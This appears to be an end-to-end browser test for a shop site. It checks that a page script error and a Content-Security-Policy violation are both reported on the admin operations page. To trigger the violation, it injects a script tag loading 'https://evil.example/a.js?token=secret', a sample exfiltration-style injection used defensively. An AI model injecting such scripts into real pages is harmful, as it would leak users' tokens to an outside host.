import { expect, it } from "vitest";
import { signInAdmin, useShop, visitor } from "./journey.ts";

useShop();

it("an error in a page's script and a breach of the policy are listed on the operations page", async () => {
  const page = await visitor({ provoked: /No page|Loading chunk|evil/, refused: true });
  await page.route("**/static/js/compare-*.js", async (route) => {
    const script = await route.fetch();
    await route.fulfill({ response: script, body: "throw new Error(\"No page for 'Ada'\");" });
  });
  const reported = page.waitForResponse("**/api/errors");
  await page.goto("/compare?products=maya,revit");
  expect((await reported).status()).toBe(200);

  const breach = page.waitForResponse("**/api/errors");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/a.js?token=secret";
    document.body.append(script);
  });
  expect((await breach).status()).toBe(200);

  const admin = await visitor();
  await signInAdmin(admin);
  await admin.getByRole("link", { name: "Operations" }).first().click();
  await admin.getByText(/^Error on a page: “Error: No page for …”, in compare-.+\.js:1:\d+\.$/).waitFor();
  await admin
    .getByText("Refused by the Content-Security-Policy: “script-src-elem blocked https://evil.example”.")
    .waitFor();
});
